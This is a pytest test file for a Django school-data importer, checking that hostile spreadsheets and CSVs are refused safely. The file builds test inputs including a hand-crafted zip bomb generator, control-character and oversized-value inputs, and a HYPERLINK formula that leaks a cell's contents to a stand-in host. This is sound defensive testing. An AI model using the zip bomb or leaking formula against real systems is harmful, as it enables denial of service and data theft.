"""Files built to hurt: each gets a clear Russian answer naming the limit or the cell, nothing
is written, and reading stays within bounded memory (issue 14)."""

from __future__ import annotations

import csv
import io
import os
import re
import resource
import struct
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from shnor.assessments.models import Result
from shnor.core.cells import value_limit
from shnor.core.importing import importer_for
from shnor.core.tabular import csv_cell, xlsx_bytes
from shnor.registry.models import School
from tests.conftest import stored_results
from tests.tables import RESULT_HEADERS, result_row, write_table

GIB = 2**30

# -- helpers ------------------------------------------------------------------------------------

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
    'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
    '"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.'
    'openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/'
    'worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'spreadsheetml.worksheet+xml"/></Types>'
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.'
    'org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
    'openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
    'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships"><sheets><sheet name="Данные" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.'
    'org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
    'openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/></Relationships>'
)
SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
    'spreadsheetml/2006/main"><sheetData>'
)
SHEET_TAIL = "</sheetData></worksheet>"


def header_row() -> str:
    cells = "".join(
        f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>{h}</t></is></c>'
        for i, h in enumerate(RESULT_HEADERS)
    )
    return f'<row r="1">{cells}</row>'


def raw_zip(path: Path, members: list[tuple[str, list[bytes], int, int, bool]]) -> Path:
    """A zip written by hand: (name, deflated pieces, crc, size, declared size is honest)."""
    out = path.open("wb")
    central = b""
    for name, pieces, crc, size, honest in members:
        offset = out.tell()
        compressed = sum(map(len, pieces))
        declared = size if honest else 1000
        encoded = name.encode()
        fields = (20, 0, 8, 0, 0x21, crc, compressed, declared, len(encoded))
        out.write(b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", *fields, 0) + encoded)
        for piece in pieces:
            out.write(piece)
        central += (
            b"PK\x01\x02"
            + struct.pack("<HHHHHHIIIHHHHHII", 20, *fields, 0, 0, 0, 0, 0, offset)
            + encoded
        )
    start = out.tell()
    out.write(central)
    out.write(
        b"PK\x05\x06"
        + struct.pack("<HHHHIIH", 0, 0, len(members), len(members), len(central), start, 0)
    )
    out.close()
    return path


def small_member(name: str, text: str) -> tuple[str, list[bytes], int, int, bool]:
    data = text.encode()
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return name, [packer.compress(data) + packer.flush()], zlib.crc32(data), len(data), True


def xlsx_of(path: Path, data: bytes) -> Path:
    """A workbook whose one sheet is `data`, stored honestly (declared sizes are the real ones)."""
    return xlsx_with_sheet(path, small_member("xl/worksheets/sheet1.xml", data.decode()))


def xlsx_with_sheet(path: Path, sheet: tuple[str, list[bytes], int, int, bool]) -> Path:
    return raw_zip(
        path,
        [
            small_member("[Content_Types].xml", CONTENT_TYPES),
            small_member("_rels/.rels", ROOT_RELS),
            small_member("xl/workbook.xml", WORKBOOK),
            small_member("xl/_rels/workbook.xml.rels", WORKBOOK_RELS),
            sheet,
        ],
    )


def zip_bomb(path: Path, gigabytes: float, honest: bool) -> Path:
    """An XLSX whose sheet XML inflates to `gigabytes`: one deflated megabyte of rows, fully
    flushed so that its bytes can be repeated, stands for every megabyte after the first."""
    row = b'<row r="2"><c r="A2" t="n"><v>1</v></c></row>'
    block = row * (2**20 // len(row))
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(SHEET_HEAD.encode() + header_row().encode())
    head += packer.flush(zlib.Z_FULL_FLUSH)
    middle = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    tail = packer.compress(SHEET_TAIL.encode()) + packer.flush()
    repeats = int(gigabytes * GIB // len(block))
    size = len(SHEET_HEAD) + len(header_row().encode()) + repeats * len(block) + len(SHEET_TAIL)
    crc = zlib.crc32(SHEET_HEAD.encode() + header_row().encode())
    if honest:  # a lying archive is refused before its end, where the checksum would matter
        for _ in range(repeats):
            crc = zlib.crc32(block, crc)
        crc = zlib.crc32(SHEET_TAIL.encode(), crc)
    pieces = [head, *([middle] * repeats), tail]
    return xlsx_with_sheet(path, ("xl/worksheets/sheet1.xml", pieces, crc, size, honest))


READ_IN_CHILD = """
import resource, sys
import django
django.setup()
from pathlib import Path
from shnor.core.importing import importer_for
from shnor.core.system import SystemUser
rows, report = importer_for("results", SystemUser()).read(Path(sys.argv[1]))
for problem in report.problems:
    print(problem)
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
"""


def read_in_child(path: Path) -> tuple[str, int]:
    """The importer's reading of `path` in a child process (its address space held to 3 GiB,
    so that a regression fails instead of eating the machine): its problems and peak RSS."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (3 * GIB, 3 * GIB))

    done = subprocess.run(
        [sys.executable, "-c", READ_IN_CHILD, str(path)],
        capture_output=True,
        text=True,
        env={**os.environ, "DJANGO_SETTINGS_MODULE": "shnor.settings"},
        preexec_fn=limit,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    *problems, peak_kb = done.stdout.strip().splitlines()
    return "\n".join(problems), int(peak_kb) * 1024


def import_results(world: dict[str, Any], path: Path) -> Any:
    return importer_for("results", world["users"]["region"]).run(path)


def problems_of(report: Any) -> str:
    return "\n".join(map(str, report.problems))


# -- sheet dimensions and zip bombs ------------------------------------------------------------


def test_a_cell_in_the_far_corner_is_refused_before_the_grid_is_built(
    world: dict[str, Any], tmp_path: Path
) -> None:
    """One cell in A1 and one in XFD1048576 made calamine ask for 512 GiB and abort."""
    corner = header_row() + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    data = (SHEET_HEAD + corner + SHEET_TAIL).encode()
    path = xlsx_of(tmp_path / "corner.xlsx", data)
    assert path.stat().st_size < 5000
    problems, peak = read_in_child(path)
    assert "лист «Данные»: заполненная область листа — 1 048 576 строк × 16 384 столбцов" in (
        problems
    )
    assert "SHNOR_IMPORT_MAX_ROWS" in problems and "SHNOR_IMPORT_MAX_COLUMNS" in problems
    assert peak < GIB
    before = stored_results()
    report = import_results(world, path)
    assert "до ячейки XFD1048576" in problems_of(report)
    assert stored_results() == before


def test_a_declared_dimension_beyond_the_limits_is_refused(
    world: dict[str, Any], tmp_path: Path
) -> None:
    workbook = Workbook()
    workbook.active.append(RESULT_HEADERS)
    workbook.active.append(result_row("100"))
    workbook.active["XFD1048576"] = 1  # openpyxl declares the range A1:XFD1048576
    workbook.save(tmp_path / "declared.xlsx")
    report = import_results(world, tmp_path / "declared.xlsx")
    assert "объявленный размер листа — 1 048 576 строк × 16 384 столбцов" in problems_of(report)
    assert Result.objects.count() == 0


def test_cells_without_references_are_placed_as_calamine_places_them(
    world: dict[str, Any], tmp_path: Path, settings: Any
) -> None:
    """A row of cells with no «r» stands one after another: 300 of them are 300 columns."""
    settings.IMPORT_MAX_COLUMNS = 250
    wide = '<row r="2">' + '<c t="n"><v>1</v></c>' * 300 + "</row>"
    data = (SHEET_HEAD + header_row() + wide + SHEET_TAIL).encode()
    path = xlsx_of(tmp_path / "wide.xlsx", data)
    report = import_results(world, path)
    assert "1 строк" not in problems_of(report)
    assert "2 строк × 300 столбцов (до ячейки KN2)" in problems_of(report)


@pytest.mark.parametrize("honest", [True, False], ids=["declared", "lying"])
def test_a_zip_bomb_is_refused_in_bounded_memory(
    world: dict[str, Any], tmp_path: Path, honest: bool
) -> None:
    """≈3 GB of sheet XML in a few megabytes: refused by its declared size without inflating
    it, or — when the archive lies about its size — once the inflated bytes pass the limit."""
    path = zip_bomb(tmp_path / "bomb.xlsx", 3, honest)
    assert path.stat().st_size < 10 * 2**20
    problems, peak = read_in_child(path)
    if honest:
        assert re.search(r"в распакованном виде файл занимает 3 07\d МБ", problems)
    else:
        assert "при распаковке файл больше объявленного размера" in problems
    assert "допускается не больше 400 МБ (SHNOR_IMPORT_MAX_UNPACKED_MB)" in problems
    assert peak < GIB, f"peak RSS {peak / 2**20:.0f} MB"
    if honest:  # refused at once; the lying one costs 400 MB of inflating, shown by the child
        before = stored_results()
        assert "SHNOR_IMPORT_MAX_UNPACKED_MB" in problems_of(import_results(world, path))
        assert stored_results() == before


def test_ods_repeated_rows_count_as_rows(
    world: dict[str, Any], tmp_path: Path, settings: Any
) -> None:
    settings.IMPORT_MAX_ROWS = 1000
    table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:'
        f'names:tc:opendocument:xmlns:office:1.0" xmlns:table="{table}" xmlns:text="urn:oasis:'
        'names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
        '<table:table table:name="Лист1"><table:table-row table:number-rows-repeated="5000">'
        '<table:table-cell office:value-type="float" office:value="1"><text:p>1</text:p>'
        "</table:table-cell></table:table-row><table:table-row "
        'table:number-rows-repeated="1048000"><table:table-cell '
        'table:number-columns-repeated="16000"/></table:table-row></table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    with zipfile.ZipFile(tmp_path / "rows.ods", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", content)
    report = import_results(world, tmp_path / "rows.ods")
    # the trailing million empty rows do not count; the 5,000 repeated filled ones do
    assert "лист «Лист1»: заполненная область листа — 5 000 строк × 1 столбцов" in (
        problems_of(report)
    )


# -- CSV ------------------------------------------------------------------------------------------


def test_a_csv_line_of_50_megabytes_is_an_error(
    world: dict[str, Any], tmp_path: Path, settings: Any
) -> None:
    settings.MAX_IMPORT_MB = 200  # the line limit, not the file limit, is what is shown here
    path = tmp_path / "long.csv"
    with path.open("w", encoding="utf-8") as out:
        out.write(";".join(RESULT_HEADERS) + "\n")
        out.write("100;2025;ВПР;" + "Ж" * (50 * 2**20) + "\n")
    before = stored_results()
    report = import_results(world, path)
    assert problems_of(report) == (
        "long.csv, лист «—» — long.csv: строка 2 длиной 52 428 813 знаков, допускается не "
        "больше 100 000 (SHNOR_IMPORT_MAX_LINE_CHARS); похоже, это не таблица CSV"
    )
    assert stored_results() == before


def test_a_quoted_field_longer_than_a_line_is_an_error(
    world: dict[str, Any], tmp_path: Path
) -> None:
    path = tmp_path / "quoted.csv"
    lines = "\n".join("x" * 1000 for _ in range(200))
    path.write_text(";".join(RESULT_HEADERS) + f'\n100;"{lines}";ВПР\n', encoding="utf-8")
    report = import_results(world, path)
    assert "не читается как CSV (field larger than field limit (100000))" in problems_of(report)
    assert Result.objects.count() == 0


def test_a_utf16_csv_with_a_byte_order_mark_imports(world: dict[str, Any], tmp_path: Path) -> None:
    path = write_table(
        tmp_path / "utf16.csv", [RESULT_HEADERS, result_row("100")], encoding="utf-16"
    )
    assert path.read_bytes()[:2] == b"\xff\xfe"
    report = import_results(world, path)
    assert report.ok, report.problems
    assert report.added == 1


def test_a_utf16_csv_without_a_mark_is_named(world: dict[str, Any], tmp_path: Path) -> None:
    path = write_table(
        tmp_path / "utf16le.csv", [RESULT_HEADERS, result_row("100")], encoding="utf-16-le"
    )
    report = import_results(world, path)
    assert "похоже на UTF-16 без метки порядка байтов" in problems_of(report)
    assert Result.objects.count() == 0


def test_a_csv_without_the_header_names_the_encoding_it_was_read_in(
    world: dict[str, Any], tmp_path: Path
) -> None:
    path = tmp_path / "koi8.csv"
    path.write_bytes(";".join(RESULT_HEADERS).encode("koi8-r") + b"\n100;2025\n")
    report = import_results(world, path)
    assert "не найдена строка заголовков (файл прочитан в кодировке Windows-1251)" in (
        problems_of(report)
    )


# -- values the database would refuse ----------------------------------------------------------


@pytest.mark.parametrize(
    "column,value,expected",
    [
        ("Участников", "1e308", "целое число не меньше 0 и не больше 2147483647"),
        ("Участников", "NaN", "целое число не меньше 0 и не больше 2147483647"),
        ("Участников", "Infinity", "целое число не меньше 0 и не больше 2147483647"),
        ("Обучающихся", "3000000000", "целое число не меньше 0 и не больше 2147483647"),
        ("Обучающихся", "9" * 5000, "целое число не меньше 0 и не больше 2147483647"),
        ("Средний балл", "inf", "число от 0 до 100"),
        ("Средний балл", "-Infinity", "число от 0 до 100"),
        ("Средний балл", "nan", "число от 0 до 100"),
        ("Средний балл", "1e308", "число от 0 до 100"),
    ],
)
def test_huge_and_non_finite_numbers_are_cell_errors(
    world: dict[str, Any], tmp_path: Path, column: str, value: str, expected: str
) -> None:
    row = result_row("100", **{column: value})
    path = write_table(tmp_path / "numbers.csv", [RESULT_HEADERS, row])
    before = stored_results()
    report = import_results(world, path)
    assert [(p.row, p.column, p.expected) for p in report.problems] == [(2, column, expected)]
    assert stored_results() == before


def test_float_cells_of_a_workbook_that_no_column_holds_are_cell_errors(
    world: dict[str, Any], tmp_path: Path
) -> None:
    """calamine reads <v>1e308</v>, <v>inf</v> and <v>NaN</v> as the floats they name."""

    def row(number: int, participants: str, mean: str) -> str:
        texts = {"A": "100", "C": "ВПР", "D": "Математика"}
        numbers = {"B": str(2020 + number), "E": "5", "F": "40", "G": participants, "M": mean}
        cells = [
            f'<c r="{c}{number}" t="inlineStr"><is><t>{t}</t></is></c>' for c, t in texts.items()
        ] + [f'<c r="{c}{number}"><v>{v}</v></c>' for c, v in numbers.items()]
        return f'<row r="{number}">{"".join(sorted(cells, key=lambda x: x[6]))}</row>'

    rows = row(2, "1e308", "3.5") + row(3, "20", "inf") + row(4, "NaN", "-Infinity")
    data = (SHEET_HEAD + header_row() + rows + SHEET_TAIL).encode()
    path = xlsx_of(tmp_path / "floats.xlsx", data)
    report = import_results(world, path)
    assert [(p.row, p.column, p.value) for p in report.problems] == [
        (2, "Участников", 1e308),
        (3, "Средний балл", float("inf")),
        (4, "Участников", pytest.approx(float("nan"), nan_ok=True)),
        (4, "Средний балл", float("-inf")),
    ]
    assert Result.objects.count() == 0


def test_every_stored_column_checks_what_the_database_holds() -> None:
    grade = value_limit(Result._meta.get_field("grade"))
    assert grade(32767) is None
    assert grade(40000) == "целое число от 0 до 32767"
    name = value_limit(School._meta.get_field("name"))
    assert name("Ш" * 500) is None
    assert name("Ш" * 501) == "текст не длиннее 500 знаков"
    mean = value_limit(Result._meta.get_field("mean_score"))
    from decimal import Decimal

    assert mean(Decimal("9999.99")) is None
    assert mean(Decimal("10000.00")) == "число по модулю меньше 10000"


# -- sheets ---------------------------------------------------------------------------------------


def hundred_sheets(path: Path, bad_sheet: int | None = None) -> Path:
    workbook = Workbook()
    workbook.remove(workbook.active)
    for number in range(1, 101):
        sheet = workbook.create_sheet(f"Лист{number}")
        sheet.append(RESULT_HEADERS)
        participants = -1 if number == bad_sheet else 20
        sheet.append(result_row("100", year=2000 + number, participants=participants))
    notes = workbook.create_sheet("Пояснения")
    notes.append(["Этот лист — пояснения, а не данные"])
    workbook.save(path)
    return path


def test_a_workbook_with_data_on_100_sheets_loads_every_sheet(
    world: dict[str, Any], tmp_path: Path
) -> None:
    """Documented: every sheet with the import's header row is a part of the table; a sheet
    with data but no header is named in a notice."""
    report = import_results(world, hundred_sheets(tmp_path / "sheets.xlsx"))
    assert report.ok, report.problems[:3]
    assert report.added == 100
    assert sorted(Result.objects.values_list("year", flat=True)) == list(range(2001, 2101))
    assert "Лист «Пояснения» пропущен: в нём нет строки заголовков этой загрузки" in (
        report.notices
    )


def test_an_error_on_one_of_100_sheets_names_the_sheet_and_writes_nothing(
    world: dict[str, Any], tmp_path: Path
) -> None:
    report = import_results(world, hundred_sheets(tmp_path / "sheets.xlsx", bad_sheet=57))
    assert [str(p) for p in report.problems] == [
        "sheets.xlsx, лист «Лист57», строка 2, столбец «Участников»: значение «-1» — "
        "целое число не меньше 0 и не больше 2147483647"
    ]
    assert Result.objects.count() == 0


def test_duplicates_across_sheets_name_the_first_sheet(
    world: dict[str, Any], tmp_path: Path
) -> None:
    workbook = Workbook()
    for name in ("2024", "2025"):
        sheet = workbook.create_sheet(name)
        sheet.append(RESULT_HEADERS)
        sheet.append(result_row("100"))
    workbook.remove(workbook["Sheet"])
    workbook.save(tmp_path / "twice.xlsx")
    report = import_results(world, tmp_path / "twice.xlsx")
    assert "лист «2025», строка 2" in problems_of(report)
    assert "повторяет строку 2 листа «2024»" in problems_of(report)


# -- names that are formulas or hide control characters ---------------------------------------

FORMULA = '=HYPERLINK("http://example.org/?leak="&A1,"Школа № 5")'


def schools_file(path: Path, name: str) -> Path:
    return write_table(
        path,
        [
            ["Код ОО", "Наименование ОО", "Муниципалитет", "Тип ОО", "Местность"],
            ["777", name, "Северный район", "СОШ", "город"],
        ],
    )


@pytest.mark.parametrize("name", ["Школа\x07№ 5", "Школа\x1b[31m", "Школа \u202eабв"])
def test_control_characters_in_names_are_cell_errors(
    world: dict[str, Any], tmp_path: Path, name: str
) -> None:
    schools = School.objects.count()
    report = importer_for("schools", world["users"]["region"]).run(
        schools_file(tmp_path / "schools.csv", name)
    )
    assert [(p.column, p.expected) for p in report.problems] == [
        ("Наименование ОО", "текст без управляющих символов")
    ]
    assert School.objects.count() == schools


def test_a_formula_name_is_imported_as_text_and_exported_as_text(
    world: dict[str, Any], tmp_path: Path
) -> None:
    """Documented: a name is text, whatever it starts with; every export writes it so that no
    spreadsheet runs it — as a text cell in XLSX, behind a quote in CSV."""
    from shnor.identification.actions import do_run_identification
    from shnor.identification.exports import to_csv, to_xlsx
    from shnor.identification.models import Methodology

    user = world["users"]["region"]
    # as text in a CSV: a workbook's formula cell would give its computed value instead
    report = importer_for("schools", user).run(schools_file(tmp_path / "schools.csv", FORMULA))
    assert report.ok, report.problems
    assert School.objects.get(code="777").name == FORMULA

    run = do_run_identification(Methodology.objects.get(code="federal"), 2025, acting_user=user)
    data = to_xlsx(run, run.statuses.all())
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    cells = [c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]
    formula_cell = next(c for c in cells if c.value == FORMULA)
    assert (formula_cell.data_type, formula_cell.quotePrefix) == ("s", True)

    rows = list(csv.reader(io.StringIO(to_csv(run, run.statuses.all()))))
    assert next(r for r in rows if r[0] == "777")[:2] == ["777", "'" + FORMULA]


def test_report_and_course_order_workbooks_write_formula_text_as_text() -> None:
    from shnor.core.documents.content import Report, Section, Table
    from shnor.core.documents.render import to_xlsx
    from shnor.staff.picture import course_order_xlsx

    report = Report(
        kind="identification",
        title="Справка",
        subtitle="",
        sections=[Section("Таблица", table=Table(["Школа"], [["=1+1"], ["@SUM(A1)"]]))],
        sources=["-источник"],
    )
    order = course_order_xlsx(
        [{"kind": "предметный", "subject": "+7", "topic": "=2*3", "teachers": 1, "schools": 1}],
        "Северный район",
    )
    for data in (to_xlsx(report), order):
        workbook = load_workbook(io.BytesIO(data))
        cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
        risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
        assert risky
        assert {(c.data_type, c.quotePrefix) for c in risky} == {("s", True)}


def test_the_csv_and_xlsx_helpers_leave_plain_values_alone() -> None:
    assert [csv_cell(v) for v in ("=1", "+1", "-1", "@x", "\t=1", "Школа", 5, -3)] == [
        "'=1",
        "'+1",
        "'-1",
        "'@x",
        "'\t=1",
        "Школа",
        5,
        -3,
    ]
    workbook = Workbook()
    workbook.active.append(["Школа", 5, "=1+1"])
    cells = load_workbook(io.BytesIO(xlsx_bytes(workbook))).active[1]
    assert [(c.value, c.data_type) for c in cells] == [("Школа", "s"), (5, "n"), ("=1+1", "s")]
